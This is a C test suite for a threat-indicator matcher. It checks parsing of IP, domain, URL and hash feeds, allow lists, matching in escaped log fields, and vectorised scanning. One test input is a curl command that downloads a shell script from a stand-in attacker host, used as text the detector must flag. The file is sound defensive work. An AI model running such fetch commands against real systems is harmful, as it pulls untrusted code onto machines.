/* SPDX-License-Identifier: Apache-2.0 */
#include <stdlib.h>
#include <time.h>

#include "../check.h"
#include "base/alloc.h"
#include "base/buf.h"
#include "detect/indicators-int.h"

static struct yg_indicators *set;
static struct yg_names *names;
static struct yg_arena *arena;
static struct yg_event event;
static struct yg_buf told;

static void on_report(void *arg, const char *file, uint64_t line, const char *reason)
{
	(void)arg;
	yg_buf_addf(&told, "%s:%llu: %s\n", file, (unsigned long long)line, reason);
}

static void begin(const char *list, const char *allow)
{
	yg_buf_init(&told, 65536);
	set = yg_indicators_new();
	names = yg_names_new();
	arena = yg_arena_new(1u << 20);
	if (!set || !names || !arena ||
	    yg_indicators_add(set, "list", yg_bytes_str(list), on_report, NULL) != YG_OK ||
	    yg_indicators_allow(set, "allow", yg_bytes_str(allow), on_report, NULL) != YG_OK ||
	    yg_indicators_finish(set) != YG_OK)
		abort();
	yg_event_init(&event, arena, names);
}

static void end(void)
{
	set = yg_indicators_free(set);
	names = yg_names_free(names);
	arena = yg_arena_free(arena);
	yg_buf_done(&told);
}

/* The values of the indicators found in @text, as "value[text] ". */
static struct yg_bytes found(const char *text)
{
	static char to[4096];
	struct yg_indicator_hit hits[8];
	size_t size = 0;
	uint32_t count;

	yg_event_init(&event, arena, names);
	if (yg_event_add(&event, YG_S("field"), yg_bytes_str(text), YG_VALUE_TEXT) != YG_OK)
		abort();
	count = yg_indicators_match(set, &event, NULL, hits, 8);
	for (uint32_t i = 0; i < count; i++)
		size += (size_t)snprintf(to + size, sizeof(to) - size, "%.*s[%.*s] ",
					 YG_FMT(yg_indicators_get(set, hits[i].index).value),
					 YG_FMT(hits[i].value));
	return (struct yg_bytes){(const uint8_t *)to, size};
}

static void addresses(void)
{
	begin("192.0.2.1\n198.51.100[.]7:443\n2001:DB8::1\n203.0.113.77/24\n2001:db8:5::/48\n"
	      "203.0.113.9\n",
	      "");
	CHECK(told.size == 0 && yg_indicators_count(set) == 6);
	CHECK_TEXT(found("192.0.2.1"), "192.0.2.1[192.0.2.1] ");
	CHECK_TEXT(found("192.0.2.10"), "");
	CHECK_TEXT(found("192.0.2.1.5"), "");
	CHECK_TEXT(found("::ffff:192.0.2.1"), "192.0.2.1[::ffff:192.0.2.1] ");
	CHECK_TEXT(found("from 192.0.2.1. Again"), "192.0.2.1[192.0.2.1] ");
	CHECK_TEXT(found("from [198.51.100.7]:51234, again"), "198.51.100.7[198.51.100.7] ");
	CHECK_TEXT(found("203.0.113.9"), "203.0.113.9[203.0.113.9] 203.0.113.0/24[203.0.113.9] ");
	CHECK_TEXT(found("a=203.0.112.255 b=203.0.114.0"), "");
	CHECK_TEXT(found("2001:db8:0::0001"), "2001:db8:0:0:0:0:0:1[2001:db8:0::0001] ");
	CHECK_TEXT(found("from 2001:db8:5:1::8: refused"),
		   "2001:db8:5:0:0:0:0:0/48[2001:db8:5:1::8] ");
	CHECK_TEXT(found("[2001:db8::1]:443"), "2001:db8:0:0:0:0:0:1[2001:db8::1] ");
	CHECK_TEXT(found("08:31:54 2001:db8:6::1 aa:bb:cc:dd:ee:ff"), "");
	CHECK_TEXT(found("Chrome/192.0.2.1 Safari"), "");
	CHECK_TEXT(found("/192.0.2.1:80"), "192.0.2.1[192.0.2.1] ");
	CHECK_TEXT(found("192.0.2.0-192.0.2.1"), "192.0.2.1[192.0.2.1] ");
	end();
}

static void domains(void)
{
	begin("evil.example\n*.bad.example\nWWW.Two.Example.\nhxxp[://"
	      "]x\nxn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g\n",
	      "");
	CHECK_TEXT(yg_buf_bytes(&told),
		   "list:4: neither an address, a prefix, a domain, a URL nor a hash\n");
	CHECK_TEXT(found("evil.example"), "evil.example[evil.example] ");
	CHECK_TEXT(found("a.b.EVIL.example."), "evil.example[a.b.EVIL.example] ");
	CHECK_TEXT(found("notevil.example evil.example.com"), "");
	CHECK_TEXT(found("two.example www.two.example"), "www.two.example[www.two.example] ");
	CHECK_TEXT(found("curl http://x.bad.example:8080/a.sh -o /tmp/a.sh"),
		   "bad.example[x.bad.example] ");
	CHECK_TEXT(found("/go?u=http%3A%2F%2Fevil.example%2Fx"), "evil.example[evil.example] ");
	CHECK_TEXT(found("user@evil.example"), "evil.example[evil.example] ");
	CHECK_TEXT(found("\\\\evil.example\\share"), "evil.example[evil.example] ");
	/* A file of that name is not that domain. */
	CHECK_TEXT(found("/download/evil.example"), "");
	CHECK_TEXT(found("C:\\tools\\evil.example"), "");
	CHECK_TEXT(found("xn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g"),
		   "xn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g[xn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g] ");
	end();
}

static void urls(void)
{
	begin("hxxps://Evil[.]example/Drop/a.php\nhttp://q.example/x?id=1\nbare.example/path/p\n"
	      "http://192.0.2.5:8080/\n",
	      "");
	CHECK(told.size == 0);
	CHECK_TEXT(found("https://evil.example/Drop/a.php"),
		   "https://evil.example/Drop/a.php[https://evil.example/Drop/a.php] ");
	CHECK_TEXT(found("(see HTTPS://user:pw@EVIL.example:443/Drop/a.php?x=1#top)."),
		   "https://evil.example/Drop/a.php[HTTPS://user:pw@EVIL.example:443/Drop/"
		   "a.php?x=1#top] ");
	CHECK_TEXT(found("https://evil.example/drop/a.php"), ""); /* paths have case */
	CHECK_TEXT(found("http://evil.example/Drop/a.php"), "");
	CHECK_TEXT(found("https://evil.example/Drop/a.php/more"), "");
	CHECK_TEXT(found("http://q.example/x?id=1"),
		   "http://q.example/x?id=1[http://q.example/x?id=1] ");
	CHECK_TEXT(found("http://q.example/x?id=2 http://q.example/x"), "");
	CHECK_TEXT(found("\"https://bare.example/path/p\""),
		   "bare.example/path/p[https://bare.example/path/p] ");
	CHECK_TEXT(found("GET http://192.0.2.5:8080"),
		   "http://192.0.2.5:8080/[http://192.0.2.5:8080] ");
	end();
}

static void hashes(void)
{
	begin("44D88612FEA8A8F36DE82E1278ABB02F\n"
	      "sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\n"
	      "x.exe|"
	      "3395856ce81f2b7382dee72602f798b642f14140\nabcdef0123456789abcdef0123456789ab\n",
	      "");
	CHECK_TEXT(
		yg_buf_bytes(&told),
		"list:4: a hash of this length is not searched for: give MD5, SHA-1 or SHA-256\n");
	CHECK_TEXT(found("SHA1=3395856CE81F2B7382DEE72602F798B642F14140,MD5="
			 "44d88612fea8a8f36de82e1278abb02f"),
		   "3395856ce81f2b7382dee72602f798b642f14140["
		   "3395856CE81F2B7382DEE72602F798B642F14140] "
		   "44d88612fea8a8f36de82e1278abb02f[44d88612fea8a8f36de82e1278abb02f] ");
	CHECK_TEXT(found("275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F"),
		   "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
		   "[275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F] ");
	CHECK_TEXT(found("44d88612fea8a8f36de82e1278abb02f0"), ""); /* longer */
	CHECK_TEXT(found("x44d88612fea8a8f36de82e1278abb02f"), ""); /* part of a word */
	CHECK_TEXT(found("<44d88612fea8a8f36de82e1278abb02f>"),
		   "44d88612fea8a8f36de82e1278abb02f[44d88612fea8a8f36de82e1278abb02f] ");
	/* Wherever in the text the run begins, it is found. */
	for (size_t lead = 0; lead < 80; lead++) {
		char text[160];

		memset(text, '-', lead);
		(void)snprintf(text + lead, sizeof(text) - lead,
			       "44d88612fea8a8f36de82e1278abb02f");
		CHECK(found(text).size > 0);
	}
	end();
}

static void dangerous(void)
{
	begin("0.0.0.0/0\n::/0\n10.0.0.0/7\n2001::/"
	      "15\ncom\nco.jp\nlocalhost\n127.0.0.1\n::1\n0.0.0.0\n"
	      "255.255.255.255\n10.0.0.0/8\n192.168.1.1\n.\n192.0.2.0/"
	      "33\na@evil.example\n300.1.1.1\n",
	      "");
	CHECK(yg_indicators_count(set) == 2); /* private ones are accepted */
	for (unsigned line = 1; line <= 17; line++) {
		char prefix[32];

		(void)snprintf(prefix, sizeof(prefix), "list:%u: ", line);
		CHECK((yg_bytes_find(yg_buf_bytes(&told), yg_bytes_str(prefix)) == SIZE_MAX) ==
		      (line == 12 || line == 13));
	}
	CHECK_TEXT(found("10.20.30.40 192.168.1.1"),
		   "10.0.0.0/8[10.20.30.40] 192.168.1.1[192.168.1.1] ");
	end();
}

/* The one that stands @n others behind the first line. */
static struct yg_indicator listed(unsigned n)
{
	struct yg_indicator best = {0};
	uint64_t above = 0;

	for (unsigned i = 0; i <= n; i++) {
		best.line = UINT64_MAX;
		for (uint32_t at = yg_indicators_first(set); at != YG_INDICATOR_NONE;
		     at = yg_indicators_next(set, at)) {
			struct yg_indicator one = yg_indicators_get(set, at);

			if (one.line > above && one.line < best.line)
				best = one;
		}
		above = best.line;
	}
	return best;
}

static struct yg_indicator first(const char *list)
{
	begin(list, "");
	return yg_indicators_count(set) ? listed(0) : (struct yg_indicator){0};
}

static void plain_lists(void)
{
	struct yg_indicator i = first("# ours\n\n  evil.example  # seen in a mail\r\n");

	CHECK_TEXT(i.value, "evil.example");
	CHECK_TEXT(i.comment, "seen in a mail");
	CHECK_TEXT(i.file, "list");
	CHECK(i.line == 3 && i.type == YG_INDICATOR_DOMAIN);
	end();
	i = first("192.0.2.1,botnet, again\n");
	CHECK_TEXT(i.comment, "botnet, again");
	end();
	i = first("0.0.0.0 evil.example # hosts file\n");
	CHECK_TEXT(i.value, "evil.example");
	CHECK_TEXT(i.comment, "hosts file");
	end();
	i = first("\"192.0.2.1\",\"botnet\"\n");
	CHECK_TEXT(i.value, "192.0.2.1");
	CHECK_TEXT(i.comment, "botnet");
	end();
	i = first("\xef\xbb\xbf"
		  "203.0.113.0/24");
	CHECK_TEXT(i.value, "203.0.113.0/24");
	CHECK(i.type == YG_INDICATOR_PREFIX && i.line == 1);
	end();
}

static void csv_lists(void)
{
	struct yg_indicator i = first("id,Type,Value,Comment\n1,domain,evil.example,\"a "
				      "\"\"quoted\"\"\nremark, two lines\"\n"
				      "2,ip,192.0.2.1,\n3,ip,,\n4,x,nonsense!,\n");

	CHECK_TEXT(i.value, "evil.example");
	CHECK_TEXT(i.comment, "a \"quoted\"\nremark, two lines");
	CHECK(i.line == 2 && yg_indicators_count(set) == 2);
	CHECK(listed(1).line == 4 && listed(1).comment.size == 0);
	CHECK_TEXT(yg_buf_bytes(&told),
		   "list:6: neither an address, a prefix, a domain, a URL nor a hash\n");
	end();
	i = first("ip;domain;reason\n192.0.2.1;evil.example;both\n");
	CHECK(yg_indicators_count(set) == 2);
	CHECK_TEXT(listed(1).comment, "both");
	end();
	i = first(
		"# a feed\n# "
		"\"first_seen\",\"ioc_value\",\"malware\"\n\"2026\",\"evil.example\",\"Loader\"\n");
	CHECK_TEXT(i.value, "evil.example");
	CHECK_TEXT(i.comment, "Loader");
	end();
	i = first("indicator\nevil.example\n");
	CHECK_TEXT(i.value, "evil.example");
	end();
	i = first("IPアドレス,理由\n192.0.2.1,不正なログイン\n");
	CHECK_TEXT(i.comment, "不正なログイン");
	end();
	i = first("value,comment\n\"evil.example,never closed\n192.0.2.1,fine\n");
	CHECK_TEXT(i.value, "192.0.2.1");
	CHECK(yg_bytes_starts(yg_buf_bytes(&told), YG_S("list:2: a quotation mark")));
	end();
}

static void allowed(void)
{
	struct yg_bytes reason;

	begin("192.0.2.1\n", "192.0.2.0/28 # our scanner\nscan.example our tool\n198.51.100.1\n");
	CHECK(yg_indicators_is_allowed(set, YG_S("192.0.2.1"), &reason));
	CHECK_TEXT(reason, "our scanner");
	CHECK(yg_indicators_is_allowed(set, YG_S("a.scan.example"), &reason));
	CHECK_TEXT(reason, "our tool");
	CHECK(yg_indicators_is_allowed(set, YG_S("198.51.100.1"), &reason));
	CHECK(reason.size == 0);
	CHECK(!yg_indicators_is_allowed(set, YG_S("192.0.2.16"), &reason));
	CHECK(!yg_indicators_is_allowed(set, YG_S(""), &reason));
	CHECK(yg_indicators_count(set) == 1);
	end();
}

static void fields(void)
{
	struct yg_indicator_hit hits[4];

	begin("192.0.2.1\nevil.example\n", "");
	CHECK(yg_event_add(&event, YG_S("a"), YG_S("nothing"), YG_VALUE_TEXT) == YG_OK);
	CHECK(yg_event_derive(&event, YG_F_src_ip, YG_S("192.0.2.1"), YG_VALUE_TEXT) == YG_OK);
	CHECK(yg_event_add(&event, YG_S("FileVersion"), YG_S("192.0.2.1"), YG_VALUE_TEXT) == YG_OK);
	CHECK(yg_indicators_match(set, &event, NULL, hits, 4) == 0);
	CHECK(yg_event_add_escaped(&event, YG_S("url"), YG_S("http:\\/\\/evil.example\\/x")) ==
	      YG_OK);
	CHECK(yg_event_add(&event, YG_S("ip"), YG_S("192.0.2.1 evil.example"), YG_VALUE_TEXT) ==
	      YG_OK);
	CHECK(yg_indicators_match(set, &event, NULL, hits, 4) == 2);
	CHECK_TEXT(yg_indicators_get(set, hits[0].index).value, "evil.example");
	CHECK_TEXT(yg_indicators_get(set, hits[1].index).value, "192.0.2.1");
	CHECK(hits[0].field == 3 && hits[1].field == 4);
	CHECK(yg_indicators_match(set, &event, NULL, hits, 1) == 1);
	end();
}

static struct yg_bytes found_escaped(const char *text)
{
	static char to[1024];
	struct yg_indicator_hit hits[8];
	size_t size = 0;
	uint32_t count;

	yg_event_init(&event, arena, names);
	if (yg_event_add_escaped(&event, YG_S("field"), yg_bytes_str(text)) != YG_OK)
		abort();
	count = yg_indicators_match(set, &event, NULL, hits, 8);
	for (uint32_t i = 0; i < count; i++)
		size += (size_t)snprintf(to + size, sizeof(to) - size, "%.*s ",
					 YG_FMT(hits[i].value));
	return (struct yg_bytes){(const uint8_t *)to, size};
}

/* JSON's escapes are no part of what stands beside them. */
static void escaped(void)
{
	begin("192.0.2.1\nevil.example\nhttp://evil.example/x\n2001:db8::1\n"
	      "44d88612fea8a8f36de82e1278abb02f\n",
	      "");
	CHECK_TEXT(found_escaped("a\\\\nevil.example b"), ""); /* the name begins with n */
	CHECK_TEXT(found_escaped("a\\nevil.example b"), "evil.example ");
	CHECK_TEXT(found_escaped("\\u0026192.0.2.1\\r\\n192.0.2.1"), "192.0.2.1 ");
	CHECK_TEXT(found_escaped("\\t2001:db8::1\\n"), "2001:db8::1 ");
	CHECK_TEXT(found_escaped("\\u000a2001:db8::1"), "2001:db8::1 ");
	CHECK_TEXT(found_escaped("\\n44d88612fea8a8f36de82e1278abb02f\\n"),
		   "44d88612fea8a8f36de82e1278abb02f ");
	CHECK_TEXT(found_escaped("\\u000a44d88612fea8a8f36de82e1278abb02f"),
		   "44d88612fea8a8f36de82e1278abb02f ");
	CHECK_TEXT(found_escaped("\\b44d88612fea8a8f36de82e1278abb02f"),
		   "44d88612fea8a8f36de82e1278abb02f ");
	CHECK_TEXT(found_escaped("\\\"http:\\/\\/evil.example\\/x\\\" y"),
		   "http:\\/\\/evil.example\\/x evil.example ");
	CHECK_TEXT(found_escaped("\\\\\\\\evil.example\\\\share"), "evil.example ");
	CHECK_TEXT(found_escaped("C:\\\\tools\\\\evil.example"), "");
	CHECK_TEXT(found_escaped("\\/a\\/evil.example"), "");
	end();
}

static void empty_set(void)
{
	begin("", "");
	CHECK(yg_indicators_count(set) == 0);
	CHECK_TEXT(found("192.0.2.1 evil.example"), "");
	end();
}

/* Many generated values: each is found, and their neighbours are not. */
static void many(void)
{
	struct yg_buf list;
	char text[96];

	yg_buf_init(&list, 16u << 20);
	for (unsigned i = 0; i < 20000; i++)
		yg_buf_addf(&list, "n%u.evil.example\n198.%u.%u.%u\n", 2 * i, 18 + (i >> 14 & 1),
			    i >> 6 & 255, 2 * (i & 63));
	yg_buf_add_byte(&list, '\0');
	begin((const char *)list.data, "");
	CHECK(told.size == 0 && yg_indicators_count(set) == 40000);
	for (unsigned i = 0; i < 20000; i++) {
		(void)snprintf(text, sizeof(text), "n%u.evil.example 198.%u.%u.%u", 2 * i + 1,
			       18 + (i >> 14 & 1), i >> 6 & 255, 2 * (i & 63) + 1);
		CHECK(found(text).size == 0);
		(void)snprintf(text, sizeof(text), "n%u.evil.example 198.%u.%u.%u", 2 * i,
			       18 + (i >> 14 & 1), i >> 6 & 255, 2 * (i & 63));
		CHECK(found(text).size > 50);
		yg_arena_reset(arena);
	}
	end();
	yg_buf_done(&list);
}

static uint64_t state;

static uint32_t chance(uint32_t below)
{
	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return (uint32_t)((state * UINT64_C(2685821657736338717)) >> 32) % below;
}

/* A text of @size bytes at most in @to: indicators, what is like them, and what stands around. */
static size_t some_text(uint8_t *to, size_t room)
{
	static const char *const parts[] = {"evil.example",
					    ".example",
					    "192.0.2.1",
					    "192.0.2.",
					    "2001:db8::7",
					    "::",
					    ":",
					    "http://evil.example/x",
					    "http:\\/\\/bad.test/",
					    "C:\\\\Windows\\\\ntdll.dll+9d2|",
					    "44d88612fea8a8f36de82e1278abb02f",
					    "44d88612fea8a8f3",
					    "0123456789abcdef",
					    ".exe",
					    "1.5",
					    ".",
					    "..",
					    " ",
					    "\\r\\n",
					    "\\u000a",
					    "a",
					    "7",
					    "\xc3\xa9",
					    "/",
					    "-"};
	size_t size = 0;

	while (size < room && chance(40) > 0) {
		const char *part = parts[chance(sizeof(parts) / sizeof(parts[0]))];
		size_t more = strlen(part);

		if (more > room - size)
			break;
		memcpy(to + size, part, more);
		size += more;
	}
	return size;
}

static uint32_t search(const struct yg_indicator_table *table, struct yg_bytes text,
		       struct yg_indicator_memo *memo, struct yg_indicator_hit hits[8])
{
	YG_INDICATOR_SCAN(s);

	yg_indicator_scan_init(&s, table, hits, 8);
	s.text = text;
	s.is_escaped = yg_bytes_chr(text, '\\') != SIZE_MAX;
	s.memo = memo;
	yg_indicator_scan_text(&s);
	yg_indicator_scan_end(&s);
	return s.count;
}

static void check_same(const struct yg_indicator_table *plain, struct yg_indicator_memo *memo,
		       struct yg_bytes text)
{
	struct yg_indicator_table other = *plain;
	struct yg_indicator_hit want[8], have[8];
	uint32_t count = search(plain, text, NULL, want);

	yg_indicator_wide_init(&other.wide, other.kinds, other.has_colons);
	/* 64 bytes in both ways, 32 bytes, remembered, and so once more */
	for (unsigned i = 0; i < 5; i++) {
		CHECK(search(&other, text, i >= 3 ? memo : NULL, have) == count);
		for (uint32_t k = 0; k < count; k++)
			CHECK(have[k].index == want[k].index &&
			      have[k].value.data == want[k].value.data &&
			      have[k].value.size == want[k].value.size);
		if (i == 0)
			other.wide.is_whole = false;
		if (i == 1)
			other.wide.is_wider = false;
	}
}

/* Many bytes at a time, and texts remembered, find what is found byte by byte. */
static void wide(void)
{
	static const char *const lists[] = {
		"evil.example\n192.0.2.1\n",
		("evil.example\n192.0.2.0/24\n2001:db8::7\nhttp://bad.test/\n"
		 "44d88612fea8a8f36de82e1278abb02f\n"),
		"44d88612fea8a8f36de82e1278abb02f\n",
		"a.aa\na.bb\na.cc\na.dd\na.ex\na.gg\na.hh\na.ii\na.jj\na.kk\na.xn--p1ai\n",
	};
	uint64_t hits = 0;

	state = (getenv("YAGURA_SEED") ? strtoull(getenv("YAGURA_SEED"), NULL, 10)
				       : (uint64_t)time(NULL)) |
		1;
	printf("wide: seed %llu\n", (unsigned long long)state);
	for (size_t i = 0; i < sizeof(lists) / sizeof(lists[0]); i++) {
		struct yg_indicator_memo *memo = yg_indicator_memo_new();
		struct yg_indicator_table plain;

		begin(lists[i], "");
		plain = *yg_indicators_listed(set);
		plain.wide.is_here = plain.wide.is_wider = plain.wide.is_whole = false;
		for (unsigned k = 0; memo && k < 20000; k++) {
			uint8_t room[9000]; /* more than is looked at in one go */
			size_t size = some_text(room, 1 + chance(300));

			for (unsigned more = chance(100) ? 0 : chance(40); more > 0; more--)
				size += some_text(room + size, sizeof(room) - size);
			/* Of its own, so that reading behind it is seen. */
			uint8_t *text = yg_calloc(size + 1, 1);
			struct yg_indicator_hit found_hits[8];

			CHECK(text != NULL);
			if (!text)
				break;
			memcpy(text + 1, room, size);
			check_same(&plain, memo, (struct yg_bytes){text + 1, size});
			hits += search(&plain, (struct yg_bytes){text + 1, size}, NULL, found_hits);
			free(text);
		}
		CHECK(memo != NULL);
		free(memo);
		end();
	}
	CHECK(hits > 1000);
}

/* Records of many fields: what is found field by field, in their order. */
static void many_fields(void)
{
	static const char list[] = "evil.example\n192.0.2.0/24\n2001:db8::7\nhttp://bad.test/\n"
				   "44d88612fea8a8f36de82e1278abb02f\n";
	static uint8_t room[200][400];
	uint64_t hits = 0;

	begin(list, "");
	for (unsigned k = 0; k < 2000; k++) {
		struct yg_indicator_table plain = *yg_indicators_listed(set);
		struct yg_indicator_hit want[64], have[64];
		YG_INDICATOR_SCAN(one);
		YG_INDICATOR_SCAN(all);

		yg_arena_reset(arena);
		yg_event_init(&event, arena, names);
		for (unsigned i = chance(200); i-- > 0;) {
			struct yg_field field = {.name = YG_S("a"), .kind = YG_VALUE_TEXT};

			field.text.data = room[i];
			field.text.size = some_text(room[i], 1 + chance(chance(4) ? 70 : 400));
			field.is_derived = chance(10) == 0;
			field.is_escaped = yg_bytes_chr(field.text, '\\') != SIZE_MAX;
			CHECK(yg_event_add_field(&event, &field) == YG_OK);
		}
		yg_indicator_scan_init(&all, &plain, have, 64);
		yg_indicator_scan_event(&all, &event);
		yg_indicator_scan_end(&all);
		plain.wide.is_here = plain.wide.is_wider = plain.wide.is_whole = false;
		yg_indicator_scan_init(&one, &plain, want, 64);
		yg_indicator_scan_event(&one, &event);
		yg_indicator_scan_end(&one);
		CHECK(all.count == one.count);
		for (uint32_t i = 0; i < one.count; i++)
			CHECK(have[i].index == want[i].index && have[i].field == want[i].field &&
			      have[i].value.data == want[i].value.data);
		hits += one.count;
	}
	end();
	CHECK(hits > 1000);
}

static void torture(void)
{
	static const char list[] = "value,comment\n192.0.2.1,a\nevil.example,b\n";
	int rc = YG_ENOMEM;

	for (long n = 1; n < 100; n++) {
		struct yg_indicators *one;

		yg_fail_at = n;
		one = yg_indicators_new();
		rc = one ? yg_indicators_add(one, "list", yg_bytes_str(list), NULL, NULL)
			 : YG_ENOMEM;
		if (rc == YG_OK)
			rc = yg_indicators_finish(one);
		(void)yg_indicators_free(one);
		if (yg_fail_at > 0)
			break;
		yg_fail_at = 0;
		CHECK(rc == YG_OK || rc == YG_ENOMEM); /* giving memory back may fail unnoticed */
	}
	yg_fail_at = 0;
	CHECK(rc == YG_OK);
}

static const struct check_case cases[] = {
	CASE(addresses),   CASE(domains),   CASE(urls),	   CASE(hashes),      CASE(dangerous),
	CASE(plain_lists), CASE(csv_lists), CASE(allowed), CASE(fields),      CASE(escaped),
	CASE(empty_set),   CASE(many),	    CASE(wide),	   CASE(many_fields), CASE(torture),
};

CHECK_MAIN(cases)
